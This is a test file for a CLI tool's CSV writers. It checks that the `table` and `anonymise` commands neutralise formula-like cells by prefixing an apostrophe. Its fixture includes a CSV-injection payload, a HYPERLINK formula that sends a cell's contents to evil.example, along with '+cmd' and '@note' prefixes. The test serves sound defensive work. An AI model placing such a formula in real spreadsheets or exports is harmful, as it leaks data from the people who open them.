// Issue 7 §4 "CSV exports carry live formulas", for the CLI's CSV writers: `steward table` and
// `steward anonymise` write formula-like text cells neutralised (an apostrophe in front).
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseCsv, steward, tempDir } from '../sdc/test-support';

const EVIL = '=HYPERLINK("http://evil.example/?d="&B2,"Click")';
const rows = ['region,sex,note'];
for (const region of [EVIL, '+cmd', 'Pemba'])
  for (const sex of ['f', 'm'])
    for (let i = 0; i < 4; i++) rows.push(`"${region.replaceAll('"', '""')}",${sex},@note`);
const work = tempDir({
  'cases.csv': rows.join('\n') + '\n',
  'keep.json': JSON.stringify({ localSuppression: { keys: ['region', 'sex'], k: 2 } }),
});
afterAll(() => work.remove());

/** No cell of the file begins with a formula character. */
function expectNoLiveFormula(text: string): void {
  for (const row of parseCsv(text)) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
}

describe('CSV exports carry live formulas: the CLI writers neutralise them', () => {
  it('steward table', () => {
    const r = steward(
      ['table', 'cases.csv', '--rows', 'region', '--cols', 'sex', '--rule', 'freq(3)', '-o', 't.csv'],
      work.dir,
    );
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const text = readFileSync(join(work.dir, 't.csv'), 'utf8');
    expectNoLiveFormula(text);
    expect(parseCsv(text).map((row) => row[0])).toContain(`'${EVIL}`);
  });
  it('steward anonymise', () => {
    const r = steward(['anonymise', 'cases.csv', '--config', 'keep.json', '-o', 'safe.csv'], work.dir);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const text = readFileSync(join(work.dir, 'safe.csv'), 'utf8');
    expectNoLiveFormula(text);
    const out = parseCsv(text);
    expect(out.map((row) => row[0])).toContain(`'+cmd`);
    expect(out.map((row) => row[2])).toContain(`'@note`);
  });
});
